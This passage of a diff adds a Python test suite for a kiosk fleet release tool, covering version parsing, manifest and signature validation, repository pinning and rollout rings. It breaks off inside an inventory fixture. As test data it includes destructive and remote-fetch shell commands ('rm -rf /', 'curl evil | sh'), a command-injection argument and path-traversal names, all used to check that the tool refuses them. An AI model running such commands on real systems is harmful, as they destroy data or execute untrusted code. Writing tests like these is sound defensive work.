@@ -1,0 +1,766 @@
+import base64
+import copy
+import errno
+import hashlib
+import json
+import os
+import re
+
+import pytest
+from cryptography.hazmat.primitives import serialization
+from cryptography.hazmat.primitives.asymmetric import ec, ed25519
+from hypothesis import given
+from hypothesis import strategies as st
+
+import fleet_inventory
+import fleet_release
+from fleet_release import CHUNK, ReleaseError
+
+
+def raises(fn, *args, match=None, **kwargs):
+    """Call ``fn`` expecting ReleaseError; return its message."""
+    with pytest.raises(ReleaseError) as info:
+        fn(*args, **kwargs)
+    if match is not None:
+        assert re.search(match, str(info.value)), str(info.value)
+    return str(info.value)
+
+
+def entry(data):
+    return {"size": len(data), "md5": hashlib.md5(data).hexdigest(), "sha256": hashlib.sha256(data).hexdigest()}
+
+
+APP = b"kiosk app payload\n" * 100
+CONF = b"mode=kiosk\n"
+
+
+@pytest.fixture
+def manifest():
+    return fleet_release.build_manifest(
+        "kiosk-ui",
+        "1.4.0",
+        {"app.zip": entry(APP), "kiosk.conf": entry(CONF)},
+        install=["/usr/bin/unzip", "-o", "{dir}/app.zip", "-d", "/opt/{name}/{version}"],
+        created_at="2026-11-22T08:00:00+00:00",
+    )
+
+
+# --------------------------------------------------------------------------- versions
+
+
+def test_versions_compare_numerically_and_are_padded():
+    assert fleet_release.parse_version("1.10") > fleet_release.parse_version("1.9")
+    assert fleet_release.parse_version("1.4") == fleet_release.parse_version("1.4.0") == (1, 4, 0, 0)
+    assert fleet_release.parse_version("2026.11.22") == (2026, 11, 22, 0)
+    assert fleet_release.parse_version("1.2.3.4") == (1, 2, 3, 4)
+    assert fleet_release.sort_versions(["1.10", "1.9", "1.2.3", "2", "1.9.1", "0.0.1"]) == [
+        "0.0.1", "1.2.3", "1.9", "1.9.1", "1.10", "2"]
+
+
+def test_yaml_numbers_are_versions():
+    # version=2 / version=1.4 on the salt CLI arrive as int / float
+    assert fleet_release.parse_version(2) == (2, 0, 0, 0)
+    assert fleet_release.parse_version(1.4) == (1, 4, 0, 0)
+    assert fleet_release.check_version(2) == "2"
+    assert fleet_release.check_version(1.4) == "1.4"
+
+
+@pytest.mark.parametrize(
+    "bad",
+    ["", "1.", ".1", "1..2", "1.2.3.4.5", "v1.2", "1.2a", "-1", " 1.2", "1.2 ", "1,2", "1e3", "1234567890",
+     "1/2", "../1", None, True, False, [1, 2], -1, 1e20, float("nan"), {"v": 1}],
+)
+def test_bad_version_is_refused_naming_the_field(bad):
+    message = raises(fleet_release.parse_version, bad, "manifest.version")
+    shown = str(bad) if isinstance(bad, (int, float)) and not isinstance(bad, bool) else bad  # YAML numbers as text
+    assert message.startswith(f"manifest.version: {shown!r} is not a version")
+    assert raises(fleet_release.check_version, bad).startswith("version: ")
+
+
+@given(st.lists(st.integers(0, 10**9 - 1), min_size=1, max_size=4), st.lists(st.integers(0, 10**9 - 1), min_size=1, max_size=4))
+def test_version_order_is_the_order_of_the_padded_number_tuples(a, b):
+    va, vb = ".".join(map(str, a)), ".".join(map(str, b))
+    pa, pb = tuple(a) + (0,) * (4 - len(a)), tuple(b) + (0,) * (4 - len(b))
+    assert fleet_release.parse_version(va) == pa
+    assert (fleet_release.parse_version(va) < fleet_release.parse_version(vb)) == (pa < pb)
+    assert (fleet_release.parse_version(va) == fleet_release.parse_version(vb)) == (pa == pb)
+
+
+def test_next_version():
+    assert fleet_release.next_version(["1.4.0"]) == "1.4.1"
+    assert fleet_release.next_version(["1.9", "1.10", "1.2"]) == "1.11"
+    assert fleet_release.next_version(["2026.11.3", "2026.11.22"]) == "2026.11.23"
+    raises(fleet_release.next_version, [], match="^versions: ")
+
+
+@given(st.lists(st.lists(st.integers(0, 10**9 - 2), min_size=1, max_size=4).map(lambda p: ".".join(map(str, p))),
+                min_size=1, max_size=6))
+def test_next_version_is_above_every_version(versions):
+    nxt = fleet_release.next_version(versions)
+    assert all(fleet_release.parse_version(nxt) > fleet_release.parse_version(v) for v in versions)
+
+
+def test_next_version_of_a_maximal_last_part_is_still_a_version():
+    # BUG: 1.999999999 -> "1.1000000000", which parse_version refuses (10 digits):
+    # the next publish of that release fails with a confusing "version: ... is not a version".
+    nxt = fleet_release.next_version(["1.999999999"])
+    fleet_release.check_version(nxt)
+    assert fleet_release.parse_version(nxt) > fleet_release.parse_version("1.999999999")
+
+
+# --------------------------------------------------------------------------- names
+
+
+@pytest.mark.parametrize("good", ["app", "kiosk-ui", "kiosk_ui.2", "A1", "x" * 63])
+def test_good_release_names(good):
+    assert fleet_release.check_name(good) == good
+
+
+@pytest.mark.parametrize("bad", ["../x", "a/b", ".hidden", "..", "", "a b", "-x", "x" * 64, "a\\b", "é", None, 5])
+def test_bad_release_names_are_refused(bad):
+    assert raises(fleet_release.check_name, bad, "release.name").startswith(f"release.name: {bad!r}")
+
+
+@pytest.mark.parametrize("good", ["app.zip", "kiosk-ui_1.2+build.tar.gz", "A", "x" * 128, "a..b"])
+def test_good_file_names(good):
+    assert fleet_release.check_file_name(good, "files") == good
+
+
+@pytest.mark.parametrize(
+    "bad", ["../x", "a/b", "/etc/passwd", ".hidden", ".", "..", "", "a\\b", "x" * 129, "a b", "a\x00b", None, 7]
+)
+def test_path_traversal_and_hidden_file_names_are_refused(bad):
+    message = raises(fleet_release.check_file_name, bad, "manifest.files")
+    assert message.startswith(f"manifest.files: {bad!r} is not a plain file name")
+
+
+@given(st.text(max_size=20))
+def test_an_accepted_file_name_is_one_plain_path_component(name):
+    try:
+        fleet_release.check_file_name(name, "f")
+    except ReleaseError:
+        return
+    assert "/" not in name and "\\" not in name and "\x00" not in name
+    assert not name.startswith(".") and os.path.basename(name) == name
+
+
+@pytest.mark.parametrize(
+    "check, value",
+    [
+        (lambda v: fleet_release.check_name(v), "app\n"),
+        (lambda v: fleet_release.check_version(v), "1.4\n"),
+        (lambda v: fleet_release.check_file_name(v, "f"), "app.zip\n"),
+    ],
+    ids=["name", "version", "file_name"],
+)
+def test_a_trailing_newline_is_refused(check, value):
+    # BUG: the patterns end in "$", which also matches before a final "\n"
+    # (re.match + "$"); use re.fullmatch or "\Z" (fleet_fields.NAME, VERSION, FILE_NAME, HEX).
+    with pytest.raises(ReleaseError):
+        check(value)
+
+
+def test_a_hex_digest_with_a_trailing_newline_is_refused(manifest):
+    manifest["files"]["app.zip"]["md5"] += "\n"
+    raises(fleet_release.validate_manifest, manifest, match=r"manifest\.files\.app\.zip\.md5")
+
+
+# --------------------------------------------------------------------------- hashing
+
+
+@pytest.mark.parametrize("size", [0, 1, CHUNK - 1, CHUNK, CHUNK + 1, 3 * CHUNK + 5])
+def test_hash_file_matches_hashlib_and_copies_identical_bytes(tmp_path, size):
+    data = os.urandom(size)
+    src, dst = tmp_path / "src.bin", tmp_path / "dst.bin"
+    src.write_bytes(data)
+    assert fleet_release.hash_file(str(src)) == entry(data)
+    assert fleet_release.hash_file(str(src), copy_to=str(dst)) == entry(data)
+    assert dst.read_bytes() == data
+
+
+@given(st.binary(max_size=3000), st.integers(1, 700))
+def test_hash_file_with_any_chunk_size(tmp_path_factory, data, chunk):
+    path = tmp_path_factory.mktemp("h") / "f"
+    path.write_bytes(data)
+    assert fleet_release.hash_file(str(path), chunk=chunk) == entry(data)
+
+
+def test_digest_fed_chunk_by_chunk():
+    digest = fleet_release.Digest()
+    for part in (b"", b"abc", b"x" * 1000):
+        digest.update(part)
+    assert digest.result() == entry(b"abc" + b"x" * 1000)
+
+
+@pytest.mark.parametrize("key", ["size", "md5", "sha256"])
+def test_compare_names_what_differs(key):
+    expected = entry(APP)
+    actual = dict(expected, **{key: entry(CONF)[key]})
+    message = raises(fleet_release.compare, expected, actual, "files.app.zip")
+    assert message.startswith(f"files.app.zip: {key} mismatch (expected {expected[key]}, got {actual[key]})")
+    fleet_release.compare(expected, dict(expected), "files.app.zip")  # equal: no error
+
+
+def test_compare_names_the_first_difference():
+    assert "size mismatch" in raises(fleet_release.compare, entry(APP), entry(CONF), "f")
+    both = dict(entry(APP), sha256="0" * 64, md5="0" * 32)
+    assert "md5 mismatch" in raises(fleet_release.compare, entry(APP), both, "f")
+
+
+# --------------------------------------------------------------------------- manifest
+
+
+def test_built_manifest(manifest):
+    assert manifest["format"] == fleet_release.FORMAT
+    assert manifest["name"] == "kiosk-ui" and manifest["version"] == "1.4.0"
+    assert manifest["rollback_of"] is None
+    assert fleet_release.manifest_size(manifest) == len(APP) + len(CONF)
+    assert fleet_release.validate_manifest(json.loads(json.dumps(manifest)), "kiosk-ui", "1.4.0") == manifest
+
+
+def test_build_manifest_takes_yaml_numbers_and_stamps_the_time():
+    doc = fleet_release.build_manifest("app", 1.4, {"a": entry(b"")})
+    assert doc["version"] == "1.4" and doc["install"] == []
+    assert fleet_release.build_manifest("app", 2, {"a": entry(b"")}, rollback_of="1.0")["version"] == "2"
+    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\+00:00", doc["created_at"])
+
+
+def test_build_manifest_refuses_a_shell_string():
+    message = raises(fleet_release.build_manifest, "app", "1.0", {"a": entry(b"")}, install="unzip a.zip && ./run.sh")
+    assert message.startswith("install: ") and "no shell" in message
+
+
+@pytest.mark.parametrize(
+    "mutate, field, words",
+    [
+        (lambda d: d["files"]["app.zip"].update(md5="xyz"), "manifest.files.app.zip.md5", "lowercase hex md5"),
+        (lambda d: d["files"]["app.zip"].update(md5=d["files"]["app.zip"]["md5"].upper()), "manifest.files.app.zip.md5", "lowercase"),
+        (lambda d: d["files"]["app.zip"].update(md5=None), "manifest.files.app.zip.md5", "md5"),
+        (lambda d: d["files"]["app.zip"].update(sha256="a" * 63), "manifest.files.app.zip.sha256", "sha256"),
+        (lambda d: d["files"]["kiosk.conf"].update(sha256="g" * 64), "manifest.files.kiosk.conf.sha256", "sha256"),
+        (lambda d: d["files"]["app.zip"].update(size=-1), "manifest.files.app.zip.size", "byte count"),
+        (lambda d: d["files"]["app.zip"].update(size="12"), "manifest.files.app.zip.size", "byte count"),
+        (lambda d: d["files"]["app.zip"].update(size=True), "manifest.files.app.zip.size", "byte count"),
+        (lambda d: d["files"]["app.zip"].update(size=1.5), "manifest.files.app.zip.size", "byte count"),
+        (lambda d: d["files"]["app.zip"].pop("size"), "manifest.files.app.zip.size", "byte count"),
+        (lambda d: d["files"].update({"app.zip": "d41d8cd98f00b204e9800998ecf8427e"}), "manifest.files.app.zip", "expected size"),
+        (lambda d: d["files"].update({"../evil": entry(b"")}), "manifest.files.../evil", "plain file name"),
+        (lambda d: d["files"].update({".hidden": entry(b"")}), "manifest.files..hidden", "plain file name"),
+        (lambda d: d.update(files={}), "manifest.files", "at least one file"),
+        (lambda d: d.update(files=["app.zip"]), "manifest.files", "at least one file"),
+        (lambda d: d.update(install="/bin/sh -c 'rm -rf /'"), "manifest.install", "no shell"),
+        (lambda d: d.update(install=["unzip", ""]), "manifest.install", "non-empty strings"),
+        (lambda d: d.update(install=["unzip", 3]), "manifest.install", "non-empty strings"),
+        (lambda d: d.update(install={"cmd": "unzip"}), "manifest.install", "non-empty strings"),
+        (lambda d: d.update(format=2), "manifest.format", "is not 1"),
+        (lambda d: d.pop("format"), "manifest.format", "is not 1"),
+        (lambda d: d.update(name="../kiosk-ui"), "manifest.name", "not a valid release name"),
+        (lambda d: d.update(version="1.4.x"), "manifest.version", "not a version"),
+        (lambda d: d.pop("version"), "manifest.version", "not a version"),
+        (lambda d: d.update(created_at=None), "manifest.created_at", "timestamp"),
+        (lambda d: d.update(rollback_of="previous"), "manifest.rollback_of", "not a version"),
+    ],
+)
+def test_every_bad_manifest_field_is_named(manifest, mutate, field, words):
+    mutate(manifest)
+    with pytest.raises(ReleaseError) as info:
+        fleet_release.validate_manifest(manifest)
+    hits = [e for e in info.value.errors if e.startswith(field + ":")]
+    assert hits and words in hits[0], info.value.errors
+
+
+def test_every_manifest_problem_is_reported_at_once(manifest):
+    manifest["version"] = "one"
+    manifest["files"]["app.zip"]["md5"] = "XYZ"
+    manifest["files"]["kiosk.conf"]["size"] = -5
+    manifest["install"] = "make install"
+    with pytest.raises(ReleaseError) as info:
+        fleet_release.validate_manifest(manifest)
+    fields = sorted(e.split(":")[0] for e in info.value.errors)
+    assert fields == ["manifest.files.app.zip.md5", "manifest.files.kiosk.conf.size", "manifest.install", "manifest.version"]
+
+
+def test_manifest_must_be_the_release_asked_for(manifest):
+    message = raises(fleet_release.validate_manifest, manifest, "other-app", "1.4.0")
+    assert message.startswith("manifest.name: 'kiosk-ui' is not the release asked for ('other-app')")
+    message = raises(fleet_release.validate_manifest, manifest, "kiosk-ui", "1.5")
+    assert message.startswith("manifest.version: '1.4.0' is not the version asked for ('1.5')")
+    assert fleet_release.validate_manifest(manifest, "kiosk-ui", "1.4.0") is manifest
+
+
+def test_manifest_must_be_an_object():
+    assert raises(fleet_release.validate_manifest, ["files"]).startswith("manifest: expected a JSON object, got list")
+
+
+# --------------------------------------------------------------------------- install command
+
+
+def test_install_argv_fills_placeholders_argument_by_argument(manifest):
+    manifest["install"] = [
+        "{dir}/install.sh",
+        "--from={dir}:{dir}",
+        "{name}-{version}",
+        "{not_a_placeholder}",
+        "{}",
+        "{DIR}",
+        "{ dir }",
+        "a b; rm -rf / && echo $HOME",
+    ]
+    pkg_dir = "/var/cache/kiosk release/kiosk-ui/1.4.0"
+    assert fleet_release.install_argv(manifest, pkg_dir) == [
+        f"{pkg_dir}/install.sh",
+        f"--from={pkg_dir}:{pkg_dir}",
+        "kiosk-ui-1.4.0",
+        "{not_a_placeholder}",
+        "{}",
+        "{DIR}",
+        "{ dir }",
+        "a b; rm -rf / && echo $HOME",
+    ]
+    manifest["install"] = []
+    assert fleet_release.install_argv(manifest, pkg_dir) == []
+
+
+ARG = st.lists(st.sampled_from(list("ab {}/;$' \"") + ["{dir}", "{name}", "{version}", "dir"]), max_size=8).map("".join)
+
+
+def reference_argv(doc, package_dir):
+    values = {"dir": str(package_dir), "name": doc["name"], "version": doc["version"]}
+    return [re.sub(r"\{(dir|name|version)\}", lambda m: values[m.group(1)], a) for a in doc["install"]]
+
+
+@given(st.lists(ARG.filter(bool), max_size=6), st.text(alphabet=st.characters(blacklist_characters="{"), max_size=15))
+def test_install_argv_never_splits_or_joins_arguments(args, package_dir):
+    doc = {"name": "kiosk-ui", "version": "1.4.0", "install": args}
+    argv = fleet_release.install_argv(doc, package_dir)
+    assert isinstance(argv, list) and len(argv) == len(args)
+    assert argv == reference_argv(doc, package_dir)
+
+
+def test_install_argv_substitutes_in_one_pass():
+    # BUG: the placeholders are replaced one after the other over the whole
+    # argument, so a value that contains a placeholder is substituted again:
+    # package_dir "/srv/{version}" turns into "/srv/1.4.0". Fix: one re.sub
+    # over r"\{(dir|name|version)\}" per argument.
+    doc = {"name": "kiosk-ui", "version": "1.4.0", "install": ["{dir}/install.sh"]}
+    assert fleet_release.install_argv(doc, "/srv/{version}") == ["/srv/{version}/install.sh"]
+
+
+# --------------------------------------------------------------------------- signatures
+
+
+def pem_private(key):
+    return key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption())
+
+
+def pem_public(key):
+    return key.public_key().public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo)
+
+
+@pytest.fixture(scope="module")
+def keys():
+    key = ed25519.Ed25519PrivateKey.generate()
+    other = ed25519.Ed25519PrivateKey.generate()
+    return {"private": pem_private(key).decode(), "public": pem_public(key), "other_public": pem_public(other),
+            "ec_private": pem_private(ec.generate_private_key(ec.SECP256R1())),
+            "ec_public": pem_public(ec.generate_private_key(ec.SECP256R1()))}
+
+
+def test_signed_manifest_verifies_after_a_round_trip_through_json(manifest, keys):
+    signed = fleet_release.sign_manifest(manifest, keys["private"])
+    assert "signature" not in manifest  # the input is not modified
+    assert signed["signature"]["alg"] == "ed25519"
+    assert len(base64.b64decode(signed["signature"]["value"])) == 64
+    on_disk = json.loads(json.dumps(signed, indent=1))
+    fleet_release.verify_signature(on_disk, keys["public"])
+    fleet_release.verify_signature(on_disk, keys["public"].decode())
+    fleet_release.validate_manifest(on_disk, "kiosk-ui", "1.4.0")
+    # re-signing a signed manifest signs the same body
+    assert fleet_release.sign_manifest(signed, keys["private"])["signature"] == signed["signature"]
+
+
+@pytest.mark.parametrize(
+    "tamper",
+    [
+        lambda d: d["files"]["app.zip"].update(sha256="0" * 64),
+        lambda d: d["files"]["app.zip"].update(size=d["files"]["app.zip"]["size"] + 1),
+        lambda d: d["files"].update({"extra.sh": entry(b"#!/bin/sh\n")}),
+        lambda d: d.update(install=["/bin/sh", "-c", "curl evil | sh"]),
+        lambda d: d.update(version="1.4.1"),
+        lambda d: d.update(rollback_of="1.3"),
+    ],
+)
+def test_a_tampered_manifest_fails_verification(manifest, keys, tamper):
+    signed = fleet_release.sign_manifest(manifest, keys["private"])
+    tampered = copy.deepcopy(signed)
+    tamper(tampered)
+    raises(fleet_release.verify_signature, tampered, keys["public"], match=r"^manifest\.signature: does not match")
+
+
+def test_another_key_fails_verification(manifest, keys):
+    signed = fleet_release.sign_manifest(manifest, keys["private"])
+    raises(fleet_release.verify_signature, signed, keys["other_public"], match="does not match")
+
+
+@pytest.mark.parametrize(
+    "signature",
+    [None, "abc", {"alg": "rsa", "value": "AAAA"}, {"alg": "ed25519"}, {"alg": "ed25519", "value": 5}],
+)
+def test_a_missing_signature_is_refused(manifest, keys, signature):
+    if signature is not None:
+        manifest["signature"] = signature
+    raises(fleet_release.verify_signature, manifest, keys["public"], match=r"^manifest\.signature: missing")
+
+
+@pytest.mark.parametrize("value", ["not base64 !!", base64.b64encode(b"short").decode(), ""])
+def test_a_garbage_signature_value_does_not_match(manifest, keys, value):
+    manifest["signature"] = {"alg": "ed25519", "value": value}
+    raises(fleet_release.verify_signature, manifest, keys["public"], match="does not match")
+
+
+def test_only_ed25519_keys_are_accepted(manifest, keys):
+    raises(fleet_release.sign_manifest, manifest, keys["ec_private"], match="^signing_key: expected an Ed25519 private key")
+    signed = fleet_release.sign_manifest(manifest, keys["private"])
+    raises(fleet_release.verify_signature, signed, keys["ec_public"], match="^verify_key: expected an Ed25519 public key")
+    raises(fleet_release.sign_manifest, manifest, "not a key", match="^signing_key: not a PEM private key")
+    raises(fleet_release.verify_signature, signed, b"junk", match="^verify_key: not a PEM public key")
+    raises(fleet_release.verify_signature, signed, keys["private"], match="^verify_key: ")
+
+
+# --------------------------------------------------------------------------- repository index
+
+
+@pytest.fixture
+def index(manifest):
+    idx = fleet_release.index_add(fleet_release.new_index("kiosk-ui"), manifest)
+    return fleet_release.index_add(idx, dict(manifest, version="1.3.0", rollback_of=None))
+
+
+def test_new_index_and_add(manifest):
+    empty = fleet_release.new_index("kiosk-ui")
+    assert empty == {"format": 1, "name": "kiosk-ui", "versions": {}, "pin": None}
+    raises(fleet_release.new_index, "../x", match="^name: ")
+    idx = fleet_release.index_add(empty, manifest)
+    assert empty["versions"] == {}  # a new dict, the old one untouched
+    entry_ = idx["versions"]["1.4.0"]
+    assert entry_["size"] == len(APP) + len(CONF)
+    assert entry_["created_at"] == manifest["created_at"] and entry_["rollback_of"] is None
+    assert fleet_release.validate_index(idx, "kiosk-ui") is idx
+
+
+def test_pin_a_staged_version_and_only_forward(index):
+    pinned = fleet_release.index_pin(index, "1.4.0", 3)
+    assert index["pin"] is None  # a new dict
+    assert pinned["pin"]["version"] == "1.4.0" and pinned["pin"]["serial"] == 3
+    assert fleet_release.validate_index(pinned, "kiosk-ui")
+    assert fleet_release.index_pin(pinned, "1.3.0", 3)["pin"]["version"] == "1.3.0"  # same serial: replayed
+    assert fleet_release.index_pin(pinned, "1.3.0", "4")["pin"]["serial"] == 4
+    message = raises(fleet_release.index_pin, pinned, "1.3.0", 2)
+    assert message.startswith("serial: 2 is older than this repository's pin serial 3")
+
+
+def test_pin_an_unknown_version_is_refused_naming_what_is_staged(index):
+    message = raises(fleet_release.index_pin, index, "1.5.0", 1)
+    assert message == "version: 1.5.0 is not staged here (staged: 1.3.0, 1.4.0)"
+    assert "staged: none" in raises(fleet_release.index_pin, fleet_release.new_index("x"), "1.0", 1)
+
+
+def test_pin_to_none_freezes_the_campus(index):
+    frozen = fleet_release.index_pin(fleet_release.index_pin(index, "1.4.0", 1), None, 2)
+    assert frozen["pin"]["version"] is None and frozen["pin"]["serial"] == 2
+    assert fleet_release.validate_index(frozen, "kiosk-ui") is frozen
+
+
+@pytest.mark.parametrize("serial", [-1, "x", None, True, [], "1.5"])
+def test_bad_pin_serial_is_refused(index, serial):
+    assert raises(fleet_release.index_pin, index, "1.4.0", serial).startswith("serial: ")
+
+
+def test_a_fractional_pin_serial_is_refused(index):
+    # BUG: _serial() does int(2.5) -> 2, so serial=2.5 (a float from the salt CLI)
+    # is silently truncated instead of refused as "not a whole number".
+    raises(fleet_release.index_pin, index, "1.4.0", 2.5, match="^serial: ")
+
+
+@pytest.mark.parametrize(
+    "mutate, match",
+    [
+        (lambda i: i.update(name="other"), r"^index: not a repository index of release 'kiosk-ui'"),
+        (lambda i: i.update(format=2), r"^index: not a repository index"),
+        (lambda i: i.update(versions=["1.4.0"]), r"^index\.versions: expected a mapping"),
+        (lambda i: i.update(pin={"version": "9.9", "serial": 1}), r"^index\.pin: .* does not name a staged version"),
+        (lambda i: i.update(pin="1.4.0"), r"^index\.pin: "),
+        (lambda i: i.update(pin={"version": "1.4.0", "serial": "1"}), r"^index\.pin\.serial: '1' is not a number"),
+        (lambda i: i.update(pin={"version": "1.4.0", "serial": True}), r"^index\.pin\.serial: "),
+        (lambda i: i.update(pin={"version": "1.4.0"}), r"^index\.pin\.serial: None"),
+    ],
+)
+def test_validate_index_errors(index, mutate, match):
+    mutate(index)
+    raises(fleet_release.validate_index, index, "kiosk-ui", match=match)
+
+
+def test_validate_index_refuses_non_objects():
+    raises(fleet_release.validate_index, None, "app", "pi-east-1 index", match="^pi-east-1 index: not a repository")
+    raises(fleet_release.validate_index, [], "app", match="^index: ")
+
+
+def test_choose_pin_follows_the_highest_serial_and_ignores_down_pis(index):
+    behind = fleet_release.index_pin(index, "1.3.0", 4)
+    ahead = fleet_release.index_pin(index, "1.4.0", 5)
+    choice = fleet_release.choose_pin({"http://a/": behind, "http://b/": None, "http://c/": ahead, "http://d/": index})
+    assert choice == {"version": "1.4.0", "serial": 5, "repo": "http://c/"}
+    assert fleet_release.choose_pin({"http://c/": ahead, "http://a/": behind})["repo"] == "http://c/"
+    frozen = fleet_release.index_pin(index, None, 6)
+    assert fleet_release.choose_pin({"http://a/": ahead, "http://b/": frozen})["version"] is None
+    assert fleet_release.choose_pin({"http://a/": None, "http://b/": index}) is None
+    assert fleet_release.choose_pin({}) is None
+
+
+def test_prune_plan_keeps_current_and_previous():
+    present = ["1.10", "1.9", "1.2", "2.0", "1.10.1"]
+    assert fleet_release.prune_plan(present, {"2.0", "1.10.1"}) == ["1.2", "1.9", "1.10"]
+    assert fleet_release.prune_plan(["1.0"], {"1.0"}) == []
+    assert fleet_release.prune_plan([], set()) == []
+
+
+# --------------------------------------------------------------------------- rollouts
+
+
+CAMPUSES = ["east", "west", "north"]
+
+
+def test_plan_rings():
+    assert fleet_release.plan_rings(CAMPUSES) == [CAMPUSES]
+    assert fleet_release.plan_rings(CAMPUSES, canary="west") == [["west"], ["east", "north"]]
+    assert fleet_release.plan_rings(["east"], canary="east") == [["east"]]
+    assert fleet_release.plan_rings(CAMPUSES, rings="west;east,north") == [["west"], ["east", "north"]]
+    assert fleet_release.plan_rings(CAMPUSES, rings=" west ; east , north, ") == [["west"], ["east", "north"]]
+    assert fleet_release.plan_rings(CAMPUSES, rings=[["north"], ["east"]]) == [["north"], ["east"]]
+    assert fleet_release.plan_rings(iter(CAMPUSES), canary="north") == [["north"], ["east", "west"]]
+
+
+@pytest.mark.parametrize(
+    "kwargs, match",
+    [
+        ({"rings": "east;south,west"}, r"^rings: unknown campus south$"),
+        ({"rings": "east,west;east"}, r"^rings: campus east appears twice$"),
+        ({"rings": "east;;west"}, r"^rings: expected campus lists"),
+        ({"rings": ";"}, r"^rings: expected campus lists"),
+        ({"rings": 5}, r"^rings: expected campus lists"),
+        ({"rings": [["east"], "west"]}, r"^rings: expected campus lists"),
+        ({"rings": "east", "canary": "east"}, r"^rings/canary: give one or the other"),
+        ({"canary": "south"}, r"^canary: 'south' is not one of east, west, north"),
+    ],
+)
+def test_bad_rings_are_refused(kwargs, match):
+    raises(fleet_release.plan_rings, CAMPUSES, match=match, **kwargs)
+
+
+def test_no_campus_to_roll_out_to():
+    raises(fleet_release.plan_rings, [], match="^campuses: ")
+
+
+@pytest.mark.parametrize("good, value", [(0, 0.0), (1, 1.0), ("0.25", 0.25), (0.1, 0.1)])
+def test_check_share_accepts(good, value):
+    assert fleet_release.check_share(good) == value
+
+
+@pytest.mark.parametrize("bad", [-0.01, 1.01, "half", None, True, float("nan"), "inf", [0.1]])
+def test_check_share_refuses_naming_the_field(bad):
+    assert raises(fleet_release.check_share, bad).startswith(f"max_error_share: {bad!r}")
+
+
+@pytest.mark.parametrize(
+    "results, threshold, verdict",
+    [
+        ({}, 0.0, (True, 0.0)),
+        ({"k1": True, "k2": True}, 0.0, (True, 0.0)),
+        ({"k1": True, "k2": False}, 0.0, (False, 0.5)),
+        ({"k1": False, "k2": True, "k3": True, "k4": True}, 0.25, (True, 0.25)),  # exactly at the threshold: go on
+        ({"k1": False, "k2": False, "k3": True, "k4": True}, 0.25, (False, 0.5)),
+        ({f"k{i}": i >= 3 for i in range(10)}, 0.3, (True, 0.3)),
+        ({f"k{i}": i >= 4 for i in range(10)}, 0.3, (False, 0.4)),
+        ({"k1": False, "k2": True, "k3": True}, 0.3333, (False, 0.3333)),
+        ({"k1": False, "k2": False}, 1.0, (True, 1.0)),
+    ],
+)
+def test_ring_verdict_boundaries(results, threshold, verdict):
+    assert fleet_release.ring_verdict(results, threshold) == verdict
+
+
+@given(st.integers(1, 500), st.data())
+def test_ring_verdict_goes_on_exactly_up_to_the_threshold(total, data):
+    failed = data.draw(st.integers(0, total))
+    allowed = data.draw(st.integers(0, total))
+    results = {f"k{i}": i >= failed for i in range(total)}
+    go_on, share = fleet_release.ring_verdict(results, fleet_release.check_share(str(allowed / total)))
+    assert go_on == (failed <= allowed)
+    assert share == round(failed / total, 4)
+
+
+def test_drift():
+    installed = {"k3": "1.4.0", "k1": "1.3.0", "k2": None, "k4": "1.4.0"}
+    assert fleet_release.drift("1.4.0", installed) == {"k1": "1.3.0", "k2": None}
+    assert list(fleet_release.drift("1.5", installed)) == ["k1", "k2", "k3", "k4"]
+    assert fleet_release.drift(None, installed) == {}  # frozen or never pinned: nothing drifts
+
+
+# --------------------------------------------------------------------------- files on disk
+
+
+def test_write_json_atomic_leaves_no_temp_file(tmp_path):
+    path = tmp_path / "index.json"
+    path.write_text("old")
+    assert fleet_release.write_json_atomic(str(path), {"b": 1, "a": [1, 2]}) == str(path)
+    assert json.loads(path.read_text()) == {"a": [1, 2], "b": 1}
+    assert os.listdir(tmp_path) == ["index.json"]
+    assert path.stat().st_mode & 0o777 == 0o644
+    assert fleet_release.read_json(str(path), "index") == {"a": [1, 2], "b": 1}
+
+
+def test_write_json_atomic_failure_keeps_the_old_file_and_no_temp(tmp_path):
+    path = tmp_path / "index.json"
+    fleet_release.write_json_atomic(str(path), {"v": 1})
+    with pytest.raises(TypeError):
+        fleet_release.write_json_atomic(str(path), {"v": 2, "bad": object()})
+    assert json.loads(path.read_text()) == {"v": 1}
+    assert os.listdir(tmp_path) == ["index.json"]
+
+
+def test_read_json(tmp_path):
+    assert fleet_release.read_json(str(tmp_path / "missing.json"), "index") is None
+    (tmp_path / "bad.json").write_text("{nope")
+    raises(fleet_release.read_json, str(tmp_path / "bad.json"), "pi index", match=r"^pi index: cannot read .*bad\.json")
+
+
+def test_check_free_space(tmp_path):
+    assert fleet_release.check_free_space(str(tmp_path), 0) > 0
+    message = raises(fleet_release.check_free_space, str(tmp_path), 1 << 60, "kiosk.disk")
+    assert re.fullmatch(rf"kiosk\.disk: {re.escape(str(tmp_path))} has \d+ MiB free, the release needs {(1 << 40) + 1} MiB", message)
+
+
+def test_disk_error():
+    full = fleet_release.disk_error(OSError(errno.ENOSPC, "No space left on device"), "/x/app.zip.part")
+    assert str(full) == "disk: no space left while writing /x/app.zip.part"
+    denied = fleet_release.disk_error(PermissionError(errno.EACCES, "Permission denied"), "/x/a", "kiosk.dir")
+    assert str(denied) == "kiosk.dir: cannot write /x/a: Permission denied"
+
+
+def test_file_url():
+    assert fleet_release.file_url("http://10.1.1.2:80/kiosk-releases/", "app", "1.0", "app.zip") == \
+        "http://10.1.1.2:80/kiosk-releases/app/1.0/app.zip"
+    assert fleet_release.file_url("http://pi/repo", "app", "1.0", "m.json") == "http://pi/repo/app/1.0/m.json"
+
+
+# --------------------------------------------------------------------------- repo URLs and the inventory
+
+
+def raw_inventory():
+    return {
+        "campuses": {
+            "east": {
+                "vlans": {"hall": {"network": "10.1.1.0/24"}, "stairs": {"network": "10.1.2.0/24"}},
+                "pis": {
+                    "pi-east-1": {"vlans": {"hall": {"source": "10.1.1.2"}, "stairs": {"source": "10.1.2.2"}}},
+                    "pi-east-2": {"vlans": {"hall": {"source": "10.1.1.3"}, "stairs": {"source": "10.1.2.3"}}},
+                    "pi-east-3": {"vlans": {"hall": {"interface": "eth0"}}},  # no address
+                },
+                "kiosks": {
+                    "kiosk-east-01": {"mac": "52:54:00:e1:00:01", "ip": "10.1.1.11", "vlan": "hall"},
+                    "kiosk-east-02": {"mac": "52:54:00:e1:00:02", "ip": "10.1.2.12", "vlan": "stairs"},
+                },
+            },
+            "west": {
+                "repo_port": 8080,
+                "vlans": {"hall": {"network": "10.3.1.0/24"}, "lab": {"network": "10.3.2.0/24"}},
+                "pis": {
